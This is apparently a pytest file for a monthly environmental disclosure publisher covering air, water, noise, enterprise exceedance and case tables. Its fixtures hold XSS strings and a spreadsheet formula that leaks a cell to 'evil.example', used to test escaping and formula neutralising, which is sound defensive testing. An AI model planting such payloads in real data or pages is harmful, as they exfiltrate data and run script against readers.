"""Monthly disclosure tables against a fixture month (2016-12, Asia/Shanghai) whose results
are computed by hand in the comments; CSV with BOM, XLSX sheets and headers, escaping."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from _publish_helpers import COMPUTED_AT, insert_rows

from publish.jobs import PublishError, publish_monthly
from publish.vocabulary import column_of, header
from warehouse.db import connect

SH = ZoneInfo("Asia/Shanghai")
DEC = dt.date(2016, 12, 1)


def t(text: str) -> dt.datetime:
    """Local (Beijing) time."""
    return dt.datetime.fromisoformat(text).replace(tzinfo=SH)


def _stats(site_id: str, scope: str, **values) -> dict:
    base = {
        "site_id": site_id, "scope": scope, "period": "month", "period_start": DEC,
        "gb3095_edition": "GB3095-2012", "aqi_days": 0, "good_days": 0,
        **{f"days_level_{n}": 0 for n in range(1, 7)},
        "valid": True, "computed_at": COMPUTED_AT,
    }  # fmt: skip
    return base | values


AIR = [
    # 12 good of 31 -> 38.7 %; means rounded half-even: 20.4 -> 20, 54.5 -> 54, 55.5 -> 56;
    # CO 2.25 -> 2.2 (tie, keep even); index 5.678 -> 5.68
    _stats("aotizhongxin", "station", aqi_days=31, good_days=12, good_share=12 / 31,
           days_level_1=5, days_level_2=7, days_level_3=8, days_level_4=6, days_level_5=3,
           days_level_6=2, so2_mean_ugm3=20.4, no2_mean_ugm3=55.5, pm10_mean_ugm3=120.0,
           pm25_mean_ugm3=54.5, co_p95_mgm3=2.25, o3_8h_p90_ugm3=60.6, composite_index=5.678,
           main_pollutant="pm25;o3", rank=2),  # as comprehensive_index writes it: a tie of two
    _stats("dongsi", "station", aqi_days=30, good_days=30, good_share=1.0, days_level_1=10,
           days_level_2=20, so2_mean_ugm3=10.0, no2_mean_ugm3=30.0, pm10_mean_ugm3=50.0,
           pm25_mean_ugm3=30.0, co_p95_mgm3=1.0, o3_8h_p90_ugm3=80.0, composite_index=3.1,
           main_pollutant="PM10", rank=1),
    _stats("city", "city", aqi_days=31, good_days=15, good_share=15 / 31, days_level_1=6,
           days_level_2=9, days_level_3=16, so2_mean_ugm3=15.0, no2_mean_ugm3=42.0,
           pm10_mean_ugm3=85.0, pm25_mean_ugm3=42.0, co_p95_mgm3=1.65, o3_8h_p90_ugm3=70.0,
           composite_index=4.4, main_pollutant="PM2.5"),
    # another month: never shown
    _stats("dongsi", "station", period_start=dt.date(2016, 11, 1), aqi_days=30),
]  # fmt: skip


def _water(site_id, period, start, **v):
    return {
        "site_id": site_id, "period": period, "period_start": start, "n_parameters": 9,
        "computed_at": COMPUTED_AT, **v,
    }  # fmt: skip


WATER = [
    # at Miyun every valid total phosphorus result of the month was below the 0.01 mg/L limit
    _water("ws_miyun_res", "month", DEC, waterbody="lake", water_class="II", target_class="II",
           compliant=True, limiting_parameters="tp", below_detection_counts="tp=4/4",
           not_detected_limits="tp=0.01"),
    _water("ws_liangshui", "month", DEC, waterbody="river", water_class="劣V", target_class="IV",
           compliant=False, limiting_parameters="nh3n;tp", exceeding_parameters="nh3n;tp",
           exceedance_multiples="nh3n=1.35;tp=0.50"),
    _water("ws_liangshui", "day", dt.date(2016, 12, 5), waterbody="river", water_class="V"),
    _water("ws_liangshui", "month", dt.date(2016, 11, 1), waterbody="river", water_class="IV"),
]  # fmt: skip


def _noise(site_id, day, zone, day_exceeds, night_exceeds, enterprise_id=None):
    """A noise day; a None verdict is a day without a valid level (Ld / Ln None, with its
    reason), which counts in neither the valid nor the compliant site-days."""
    lim = {"0": (50.0, 40.0), "1": (55.0, 45.0), "3": (65.0, 55.0), "4a": (70.0, 55.0)}[zone]
    level = {True: 5.0, False: -5.0}
    return {
        "site_id": site_id, "local_date": day, "zone": zone, "enterprise_id": enterprise_id,
        "standard": "GB12348-2008" if enterprise_id else "GB3096-2008",
        "ld_limit_dba": lim[0], "ln_limit_dba": lim[1], "day_exceeds": day_exceeds,
        "night_exceeds": night_exceeds, "n_day_hours": 16, "n_night_hours": 8,
        "ld_dba": None if day_exceeds is None else lim[0] + level[day_exceeds],
        "ln_dba": None if night_exceeds is None else lim[1] + level[night_exceeds],
        "ln_missing_reason": "7 of 8 night-time hours valid, 8 required" if night_exceeds is None else None,
        "computed_at": COMPUTED_AT,
    }  # fmt: skip


D = dt.date
NOISE = [
    # zone 0: day F F T F -> 3 of 4 = 75.0 %; night F T (null) T T -> 1 of 4 = 25.0 %
    _noise("nz_miyun_res", D(2016, 12, 1), "0", False, False),
    _noise("nz_miyun_res", D(2016, 12, 2), "0", False, True),
    _noise("nz_miyun_res", D(2016, 12, 3), "0", True, None),
    _noise("nz_huairou_lake", D(2016, 12, 1), "0", False, True),
    _noise("nz_huairou_lake", D(2016, 12, 31), "0", None, True),
    # zone 1: 2 of 2 day and night
    _noise("nz_dongsi_res", D(2016, 12, 1), "1", False, False),
    _noise("nz_dongsi_res", D(2016, 12, 2), "1", False, False),
    # outside the month
    _noise("nz_dongsi_res", D(2016, 11, 30), "1", True, True),
    _noise("nz_dongsi_res", D(2017, 1, 1), "1", True, True),
    # GB 12348 boundary points, one row per enterprise: yizhuang_auto (zone 3) day T F -> 1 of 2
    # = 50.0 %, night F F -> 100.0 %; liulihe_cement (zone 4a) day F -> 100.0 %, night (null) -> —
    _noise("nb_yizhuang_auto_east", D(2016, 12, 6), "3", True, False, "yizhuang_auto"),
    _noise("nb_yizhuang_auto_east", D(2016, 12, 7), "3", False, False, "yizhuang_auto"),
    _noise("nb_liulihe_cement_south", D(2016, 12, 6), "4a", False, None, "liulihe_cement"),
]


def _alert(alert_id, site, parameter, first, last, max_value, limit_value):
    return {
        "alert_id": alert_id, "rule_id": "permit_hour_avg", "site_id": site, "parameter": parameter,
        "severity": "major", "state": "resolved", "first_period": t(first), "last_period": t(last),
        "max_value": max_value, "limit_value": limit_value, "unit": "mg/m3",
        "message": "exceedance", "created_at": COMPUTED_AT,
    }  # fmt: skip


DA1, DA2 = "huaneng_gaobeidian_da001", "huaneng_gaobeidian_da002"
ALERTS = [
    # so2 at DA1: hours 10..14 and 13..15 overlap -> 10,11,12,13,14,15 = 6 h; max 120/50 = 2.4
    _alert("a1", DA1, "so2", "2016-12-03T10:00", "2016-12-03T14:00", 120.0, 50.0),
    _alert("a2", DA1, "so2", "2016-12-03T13:00", "2016-12-03T15:00", 80.0, 50.0),
    # nox at DA1 from 22:00 on 30 Nov: only 00:00 and 01:00 on 1 Dec count -> 2 h; 300/100 = 3.0
    _alert("a3", DA1, "nox", "2016-11-30T22:00", "2016-12-01T01:00", 300.0, 100.0),
    # January, a data gap (no limit) and a value within the limit: none counts
    _alert("a4", DA1, "so2", "2017-01-01T00:00", "2017-01-01T03:00", 200.0, 50.0),
    _alert("a5", DA1, "so2", "2016-12-10T00:00", "2016-12-10T05:00", None, None),
    _alert("a6", DA1, "dust", "2016-12-11T00:00", "2016-12-11T05:00", 10.0, 10.0),
    # so2 at DA2 from 23:00 on 31 Dec into January -> 1 h; 75/50 = 1.5
    _alert("a7", DA2, "so2", "2016-12-31T23:00", "2017-01-01T02:00", 75.0, 50.0),
]


def _case(case_id, site, grid, state, opened, deadline=None, closed=None):
    return {
        "case_id": case_id, "site_id": site, "rule_family": "exceedance", "grid_id": grid,
        "state": state, "title": f"case {case_id}", "opened_at": t(opened),
        "deadline": t(deadline) if deadline else None, "closed_at": t(closed) if closed else None,
    }  # fmt: skip


CASES = [
    _case("c0", DA1, "key_enterprises", "closed", "2016-11-10T09:00", closed="2016-11-25T09:00"),
    _case("c1", DA1, "key_enterprises", "closed", "2016-12-03T16:00", "2016-12-18T00:00",
          "2016-12-20T10:00"),
    _case("c2", DA1, "key_enterprises", "closed", "2016-12-28T09:00", "2017-01-15T00:00",
          "2017-01-05T10:00"),
    _case("c3", DA2, "maizidian_st", "under_inspection", "2016-11-20T09:00", "2016-11-30T00:00"),
    _case("c4", "dongsi", "dongsi_st", "assigned", "2016-10-01T09:00", "2016-12-15T00:00"),
    _case("c5", "dongsi", "dongsi_st", "open", "2016-12-05T09:00", "2017-01-10T00:00"),
    _case("c6", "tiantan", "tiantan_st", "closed", "2016-12-10T09:00", "2016-12-20T00:00",
          "2016-12-25T09:00"),
]  # fmt: skip


def _event(case_id, seq, at, to_state):
    return {"case_id": case_id, "seq": seq, "event_at": t(at), "actor": "officer",
            "action": "transition", "to_state": to_state}  # fmt: skip


EVENTS = [
    _event("c1", 1, "2016-12-03T16:00", "open"),
    _event("c1", 2, "2016-12-04T09:00", "rectification_ordered"),
    _event("c1", 3, "2016-12-20T10:00", "closed"),
    # c2 is closed now, but at the end of December rectification was still ordered
    _event("c2", 1, "2016-12-28T09:00", "open"),
    _event("c2", 2, "2016-12-30T09:00", "rectification_ordered"),
    _event("c2", 3, "2017-01-05T10:00", "closed"),
]
EFFICIENCY = [
    {"site_id": DA1, "month": DEC, "interval_s": 3600, "expected": 744, "received": 740,
     "valid": 709, "efficiency": 0.953, "required": 0.9, "meets_requirement": True,
     "computed_at": COMPUTED_AT},
    {"site_id": DA2, "month": DEC, "interval_s": 3600, "expected": 744, "received": 600,
     "valid": 521, "efficiency": 0.7, "required": 0.9, "meets_requirement": False,
     "computed_at": COMPUTED_AT},
]  # fmt: skip

EVIL_STATION = '<script>alert("x")</script>奥体'
EVIL_ENTERPRISE = "<img src=x onerror=alert(1)>华能"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'  # an English name that is a formula
HUANENG_CODE = "91110105950647043T"  # config/registry/enterprises.yaml (a made-up, valid code)


@pytest.fixture
def filled(warehouse):
    with connect(warehouse, purpose="fixture") as con:
        for table, rows in (
            ("air_period_stats", AIR), ("water_class", WATER), ("noise_daily", NOISE),
            ("alerts", ALERTS), ("cases", CASES), ("case_events", EVENTS),
            ("transmission_efficiency", EFFICIENCY),
        ):  # fmt: skip
            insert_rows(con, table, rows)
        con.execute("UPDATE sites SET name_zh = ? WHERE site_id = 'aotizhongxin'", [EVIL_STATION])
        con.execute(
            "UPDATE enterprises SET name_zh = ?, name_en = ? WHERE enterprise_id = 'huaneng_gaobeidian'",
            [EVIL_ENTERPRISE, FORMULA],
        )
        # a logger enrolled from traffic (`envmon registry enrol`), its placeholder names kept
        insert_rows(con, "enterprises", [{
            "enterprise_id": "enrolled_ld130100000120", "name_zh": "待核实企业 LD130100000120",
            "name_en": "enterprise to be confirmed (logger LD130100000120)", "grid_id": "city",
            "industry": "unknown", "key_monitored": False}])  # fmt: skip
        insert_rows(con, "sites", [{
            "site_id": "enrolled_ld130100000120_outlet", "kind": "outlet",
            "name_zh": "待核实排口 LD130100000120", "name_en": "outlet to be confirmed (logger LD130100000120)",
            "grid_id": "city", "timezone": "Asia/Shanghai"}])  # fmt: skip
        insert_rows(con, "outlets", [{
            "site_id": "enrolled_ld130100000120_outlet", "enterprise_id": "enrolled_ld130100000120",
            "outlet_type": "waste_water", "logger_mn": "LD130100000120"}])  # fmt: skip
    return warehouse


AFTER_DEC = t("2017-01-01T00:00:01")  # December's last instant is 1 s in the past
LAST_SECOND = t("2016-12-31T23:59:59")  # ... is 1 s in the future


@pytest.fixture
def month_site(filled, tmp_path):
    out = tmp_path / "site"
    report = publish_monthly(filled, DEC, out=str(out), now=AFTER_DEC)
    return filled, out / "disclosure" / "2016-12", report


def read_csv(path) -> tuple[list[str], list[dict[str, str]]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 BOM"
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"))))
    keys = [column_of(h) for h in rows[0]]
    return rows[0], [dict(zip(keys, r, strict=True)) for r in rows[1:]]


def test_publish_files_of_the_month(month_site):
    _, folder, report = month_site
    names = sorted(p.name for p in folder.iterdir())
    assert names == [
        "disclosure_2016-12.xlsx", "index.html", "table1_air.csv", "table2_water.csv",
        "table3_noise.csv", "table4_enterprises.csv", "table5_cases.csv",
    ]  # fmt: skip
    assert report.period == "2016-12" and report.has_data
    assert len(report.files) == 8  # and archive.html, which lists the month at once
    assert "disclosure/2016-12/index.html" in (folder.parent.parent / "archive.html").read_text(encoding="utf-8")


def test_table1_air(month_site):
    _, folder, _ = month_site
    headers, rows = read_csv(folder / "table1_air.csv")
    assert headers[0] == "名称 Name (Chinese)"  # a name leads the table, no id
    assert headers[2] == "有效天数 Valid days"
    assert headers[5] == "一级（优）天数 Level I (excellent) days"
    # the city first, then stations by rank, then stations without statistics
    assert [r["name_zh"] for r in rows[:3]] == ["全市", "东四", EVIL_STATION]
    assert [r["name_en"] for r in rows[:3]] == ["City", "Dongsi", "Aotizhongxin (Olympic Sports Center)"]
    assert len(rows) == 13  # the city and the 12 air stations of the registry
    city, dongsi, aoti = rows[:3]
    assert city["rank"] == "" and city["good_share"] == "48.4"
    assert (aoti["aqi_days"], aoti["good_days"], aoti["good_share"]) == ("31", "12", "38.7")
    assert [aoti[f"days_level_{n}"] for n in range(1, 7)] == ["5", "7", "8", "6", "3", "2"]
    assert (aoti["so2_mean_ugm3"], aoti["no2_mean_ugm3"], aoti["pm25_mean_ugm3"]) == (
        "20",
        "56",
        "54",
    )
    assert (aoti["co_p95_mgm3"], aoti["o3_8h_p90_ugm3"]) == ("2.2", "61")
    assert (aoti["composite_index"], aoti["main_pollutant"], aoti["rank"]) == ("5.68", "PM₂.₅、O₃ PM₂.₅, O₃", "2")
    assert (dongsi["good_share"], dongsi["rank"], dongsi["main_pollutant"]) == ("100.0", "1", "PM₁₀")
    assert city["co_p95_mgm3"] == "1.6"  # 1.65 -> tie -> even
    idle = next(r for r in rows if r["name_en"] == "Wanliu")
    assert idle["aqi_days"] == "" and idle["composite_index"] == ""


def test_table2_water(month_site):
    _, folder, _ = month_site
    _, rows = read_csv(folder / "table2_water.csv")
    liang, miyun = rows  # by section id: ws_liangshui, ws_miyun_res
    assert liang["name_zh"].startswith("凉水河") and miyun["name_zh"].startswith("密云")
    assert (liang["water_class"], liang["target_class"], liang["compliant"]) == (
        "劣V",
        "IV",
        "否 no",
    )
    assert liang["waterbody"] == "河流 river"
    assert liang["limiting_parameters"] == "氨氮 Ammonia nitrogen; 总磷 Total phosphorus"
    assert liang["exceedance_multiples"] == "氨氮 Ammonia nitrogen 1.35; 总磷 Total phosphorus 0.50"
    assert liang["not_detected"] == ""
    assert (miyun["water_class"], miyun["compliant"], miyun["waterbody"]) == (
        "II",
        "是 yes",
        "湖库 lake",
    )
    assert miyun["exceedance_multiples"] == ""
    # every valid result below the detection limit: not a number, 未检出 with the limit
    assert miyun["not_detected"] == "总磷 Total phosphorus 未检出 not detected (<0.01 mg/L)"


def test_table3_noise(month_site):
    _, folder, _ = month_site
    _, rows = read_csv(folder / "table3_noise.csv")
    assert [(r["noise_points"], r["standard"], r["zone"], r["n_sites"]) for r in rows] == [
        ("功能区监测点 Functional-zone points", "GB3096-2008", "0类 Class 0", "2"),
        ("功能区监测点 Functional-zone points", "GB3096-2008", "1类 Class 1", "1"),
        # boundary points: their own rows, by the enterprise's name (in English name order)
        ("琉璃河水泥有限公司厂界 Liulihe Cement Co. boundary", "GB12348-2008", "4a类 Class 4a", "1"),
        ("北京奔驰汽车亦庄工厂厂界 Yizhuang Automotive Plant boundary", "GB12348-2008", "3类 Class 3", "1"),
    ]
    zone0, zone1, cement, auto = rows
    # zone 0: day F F T F -> 3 of 4 = 75.0 %; night F T (no valid Ln) T T -> 1 of 4 = 25.0 %
    assert (zone0["day_measured"], zone0["day_compliant"], zone0["day_compliance_rate"]) == (
        "4",
        "3",
        "75.0",
    )
    assert (zone0["night_measured"], zone0["night_compliant"], zone0["night_compliance_rate"]) == (
        "4",
        "1",
        "25.0",
    )
    assert (zone1["day_compliance_rate"], zone1["night_compliance_rate"]) == ("100.0", "100.0")
    assert zone1["day_measured"] == "2"  # 30 Nov and 1 Jan are outside the month
    assert (auto["day_measured"], auto["day_compliant"], auto["day_compliance_rate"]) == ("2", "1", "50.0")
    assert (auto["night_measured"], auto["night_compliance_rate"]) == ("2", "100.0")
    # the cement works' only night had no valid Ln: no valid site-day, no rate
    assert (cement["day_compliance_rate"], cement["night_measured"], cement["night_compliance_rate"]) == (
        "100.0",
        "0",
        "",
    )


def test_table4_enterprises(month_site):
    _, folder, _ = month_site
    headers, rows = read_csv(folder / "table4_enterprises.csv")
    assert headers[:3] == [
        "企业名称 Enterprise (Chinese)",
        "企业英文名称 Enterprise (English)",
        "统一社会信用代码 Unified social credit code",
    ]
    da1 = [r for r in rows if r["outlet_name_en"] == "coal-fired unit stack no. 1"]
    assert [(r["parameter"], r["exceedance_hours"], r["max_limit_multiple"]) for r in da1] == [
        ("氮氧化物 Nitrogen oxides (as NO2)", "2", "3.0"),
        ("二氧化硫 Sulphur dioxide", "6", "2.4"),
    ]
    for r in da1:
        assert r["enterprise_name_zh"] == EVIL_ENTERPRISE
        assert r["enterprise_name_en"] == "'" + FORMULA  # made inert (core.spreadsheet)
        assert r["credit_code"] == HUANENG_CODE
        assert r["outlet_name_zh"] == "燃煤机组烟囱1号"
        assert (r["efficiency"], r["meets_requirement"]) == ("95.3", "是 yes")
        assert (r["cases_opened"], r["cases_closed"]) == ("2", "1")
        assert r["rectification_status"] == "整改中 rectification ordered ×1; 已结案 closed ×1"
    (da2,) = [r for r in rows if r["outlet_name_en"] == "coal-fired unit stack no. 2"]
    assert (da2["parameter"], da2["exceedance_hours"], da2["max_limit_multiple"]) == (
        "二氧化硫 Sulphur dioxide",
        "1",
        "1.5",
    )
    assert (da2["efficiency"], da2["meets_requirement"]) == ("70.0", "否 no")
    assert (da2["cases_opened"], da2["cases_closed"]) == ("0", "0")
    assert da2["rectification_status"] == "核查中 under inspection ×1"  # no events: cases.state
    # an enrolled logger's placeholder names (待核实企业 ...) never reach the public
    (enrolled,) = [r for r in rows if "LD130100000120" in r["outlet_name_zh"]]
    assert [enrolled[k] for k in ("enterprise_name_zh", "enterprise_name_en", "credit_code", "outlet_name_zh",
                                  "outlet_name_en")] == [
        "名称尚未登记的企业", "Enterprise not yet registered by name", "",
        "数采仪 LD130100000120 所在排放口", "Outlet of data logger LD130100000120"]  # fmt: skip
    quiet = [r for r in rows if r["enterprise_name_en"] == "Guohua Beijing Thermal Power"]
    assert quiet and all(r["credit_code"] == "9111010567827454XJ" for r in quiet)
    assert quiet[0]["parameter"] == "" and quiet[0]["exceedance_hours"] == "0"
    assert quiet[0]["rectification_status"] == "无 none" and quiet[0]["efficiency"] == ""


def test_table5_cases_by_grid(month_site):
    _, folder, _ = month_site
    headers, rows = read_csv(folder / "table5_cases.csv")
    assert headers[0] == "名称 Name (Chinese)"
    got = {
        (r["name_zh"], r["name_en"]): (
            r["cases_opened"],
            r["cases_closed"],
            r["cases_overdue"],
            r["cases_open_at_end"],
        )
        for r in rows
    }
    names = {k[1]: k for k in got}
    assert set(names) == {"Dongsi Subdistrict grid", "Key monitored enterprises special grid",
                          "Maizidian Subdistrict grid", "Tiantan Subdistrict grid", "Total"}  # fmt: skip
    assert names["Dongsi Subdistrict grid"][0].startswith("东四")
    assert got[names["Dongsi Subdistrict grid"]] == ("1", "0", "1", "2")  # c4 overdue since 15 Dec, c5 open
    assert got[names["Key monitored enterprises special grid"]] == ("2", "1", "0", "1")  # c1 opened+closed, c2
    assert got[names["Maizidian Subdistrict grid"]] == ("0", "0", "1", "1")  # c3: deadline 30 Nov passed
    assert got[names["Tiantan Subdistrict grid"]] == ("1", "1", "0", "0")  # c6 closed late, but closed
    assert got[("合计", "Total")] == ("4", "2", "2", "4")
    assert rows[-1]["name_zh"] == "合计"


def test_xlsx_sheets_and_headers(month_site):
    _, folder, _ = month_site
    wb = openpyxl.load_workbook(folder / "disclosure_2016-12.xlsx")
    assert wb.sheetnames == ["1 air", "2 water", "3 noise", "4 enterprises", "5 cases"]
    ws = wb["1 air"]
    assert ws["A1"].value == "表1 环境空气质量（按站点及全市） Table 1 Ambient air quality by station and for the city 2016-12"
    assert ws["A2"].value == header("name_zh") and ws["C2"].value == header("aqi_days")
    assert ws["A3"].value == "全市"
    aoti = next(r for r in ws.iter_rows(min_row=3, values_only=True) if r[1] == "Aotizhongxin (Olympic Sports Center)")
    assert aoti[0] == EVIL_STATION and aoti[2] == 31 and aoti[4] == 38.7
    ws5 = wb["5 cases"]
    assert [c.value for c in ws5[2]] == [header(c) for c in (
        "name_zh", "name_en", "cases_opened", "cases_closed", "cases_overdue",
        "cases_open_at_end")]  # fmt: skip
    assert [c.value for c in ws5[ws5.max_row]] == ["合计", "Total", 4, 2, 2, 4]
    ws4 = wb["4 enterprises"]
    huaneng = next(r for r in ws4.iter_rows(min_row=3, values_only=True) if r[2] == HUANENG_CODE)
    assert huaneng[1] == "'" + FORMULA  # text, never a formula


def test_html_escapes_names_from_configuration(month_site):
    _, folder, _ = month_site
    html = (folder / "index.html").read_text(encoding="utf-8")
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;奥体" in html
    assert "&lt;img src=x onerror=alert(1)&gt;华能" in html
    assert html.count("<table") == 5 and html.count("<caption>") == 5
    assert 'class="provisional"' not in html  # a month that has ended is not provisional


# -- what reaches the public: no internal status, id, "nan" ------------------------------------
FORBIDDEN = re.compile(r"(?i:\bnan\b)|\bNone\b|UNCONFIRMED|待核实|\b[a-z]+_[a-z0-9_]+\b")


class _Text(HTMLParser):
    """The text a reader sees (not the style sheet, not attribute values such as links)."""

    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        self._skip += tag in ("style", "script")

    def handle_endtag(self, tag):
        self._skip -= tag in ("style", "script")

    def handle_data(self, data):
        if not self._skip and data.strip():
            self.parts.append(data.strip())


def public_cells(folder) -> dict[str, list[str]]:
    """Every cell a person reads: the page's text, each CSV's and each sheet's cells."""
    page = _Text()
    page.feed((folder / "index.html").read_text(encoding="utf-8"))
    out = {"index.html": page.parts}
    for path in sorted(folder.glob("*.csv")):
        rows = list(csv.reader(io.StringIO(path.read_bytes()[3:].decode("utf-8"))))
        out[path.name] = list(rows[0]) + [c for r in rows[1:] for c in r]
    wb = openpyxl.load_workbook(next(folder.glob("*.xlsx")))
    for ws in wb.worksheets:
        rows = list(ws.iter_rows(values_only=True))
        cells = [str(rows[0][0])] + [str(c) for c in rows[1]]
        out[ws.title] = cells + [str(c) for r in rows[2:] for c in r if c is not None]
    return out


def _assert_public(folder) -> None:
    for name, cells in public_cells(folder).items():
        found = [(c, m.group()) for c in cells for m in [FORBIDDEN.search(c)] if m]
        assert not found, f"{name}: {found[:5]}"


def test_the_forbidden_pattern_catches_what_it_must():
    for leak in ("nan", "NaN", "None", "UNCONFIRMED (from memory)", "待核实", "ws_miyun_res", "key_enterprises",
                 "rectification_ordered", "huaneng_gaobeidian_da001"):  # fmt: skip
        assert FORBIDDEN.search(leak), leak
    for fine in ("GB3096-2008", "PM2.5", "总磷 Total phosphorus", "Nanjing", "nano", "coal-fired"):
        assert not FORBIDDEN.search(fine), fine


def test_no_cell_carries_an_internal_status_id_or_nan(month_site):
    _, folder, _ = month_site
    cells = public_cells(folder)
    assert sum(len(c) for c in cells.values()) > 500  # the check has cells to look at
    _assert_public(folder)


def test_a_nan_from_the_warehouse_is_an_empty_cell(filled, tmp_path):
    with connect(filled, purpose="fixture") as con:
        con.execute("UPDATE air_period_stats SET composite_index = 'NaN'::DOUBLE WHERE site_id = 'dongsi'")
    publish_monthly(filled, DEC, out=str(tmp_path), now=AFTER_DEC)
    folder = tmp_path / "disclosure" / "2016-12"
    _, rows = read_csv(folder / "table1_air.csv")
    assert next(r for r in rows if r["name_en"] == "Dongsi")["composite_index"] == ""
    _assert_public(folder)


# -- a month that has not ended ----------------------------------------------------------------
def test_a_month_whose_last_instant_is_one_second_ahead_is_refused(filled, tmp_path):
    with pytest.raises(PublishError) as err:
        publish_monthly(filled, "2016-12", out=str(tmp_path), now=LAST_SECOND)
    assert str(err.value) == (
        "the month 2016-12 (2016-12-01T00:00:00+08:00 to 2017-01-01T00:00:00+08:00) has not ended: it "
        "ends at 2017-01-01T00:00:00+08:00 local time, and it is now 2016-12-31T23:59:59+08:00; its "
        "disclosure is published once it has ended (--allow-partial publishes it to date, marked "
        "provisional)"
    )
    assert not (tmp_path / "disclosure").exists()  # nothing written


def test_a_month_that_has_not_begun_is_refused_even_when_partial(filled, tmp_path):
    with pytest.raises(PublishError, match="the month 2017-01 has not begun: it begins at "
                                           "2017-01-01T00:00:00\\+08:00 local time"):
        publish_monthly(filled, "2017-01", out=str(tmp_path), now=LAST_SECOND, allow_partial=True)


NOTICE_ZH, NOTICE_EN = "临时数据（截至 2016-12-31T23:59:59+08:00）", "Provisional, data to 2016-12-31T23:59:59+08:00"
NOTICE = f"{NOTICE_ZH} {NOTICE_EN}"


def test_allow_partial_marks_every_page_table_and_sheet_provisional(filled, tmp_path):
    publish_monthly(filled, "2016-12", out=str(tmp_path), now=LAST_SECOND, allow_partial=True)
    folder = tmp_path / "disclosure" / "2016-12"
    html = (folder / "index.html").read_text(encoding="utf-8")
    assert f"<title>{NOTICE} · " in html
    shown = f'{NOTICE_ZH} <span lang="en" class="en">{NOTICE_EN}</span>'
    assert html.count(shown) == 1 + 5 + 5 + 1  # banner, each table's note and caption, footer
    assert f'<p class="provisional" role="status">{shown}</p>' in html
    for path in sorted(folder.glob("*.csv")):
        headers, rows = read_csv(path)
        assert headers[0] == "数据状态 Data status", path.name
        assert rows and all(r["data_status"] == NOTICE for r in rows), path.name
    wb = openpyxl.load_workbook(folder / "disclosure_2016-12.xlsx")
    for ws in wb.worksheets:
        assert ws["A1"].value.endswith(f" 2016-12 {NOTICE}"), ws.title
        assert ws["A2"].value == header("data_status")
        assert all(r[0] == NOTICE for r in ws.iter_rows(min_row=3, values_only=True)), ws.title
    _assert_public(folder)


def test_a_partial_table_without_rows_still_carries_the_notice(warehouse, tmp_path):
    publish_monthly(warehouse, "2016-12", out=str(tmp_path), now=LAST_SECOND, allow_partial=True)
    _, rows = read_csv(tmp_path / "disclosure" / "2016-12" / "table2_water.csv")
    assert len(rows) == 1 and rows[0]["data_status"] == NOTICE and rows[0]["water_class"] == ""


def test_publishing_twice_gives_identical_bytes(month_site, tmp_path):
    settings, folder, _ = month_site
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    again = publish_monthly(settings, "2016-12", out=str(tmp_path / "site"), now=AFTER_DEC)
    assert again.changed == ()
    other = tmp_path / "elsewhere"
    publish_monthly(settings, "2016-12", out=f"file://{other}")  # the clock: long after December
    after = {p.name: p.read_bytes() for p in (other / "disclosure" / "2016-12").iterdir()}
    assert after == before


def test_bad_month_is_refused(warehouse, tmp_path):
    with pytest.raises(PublishError, match="expected YYYY-MM"):
        publish_monthly(warehouse, "2016-13", out=str(tmp_path))
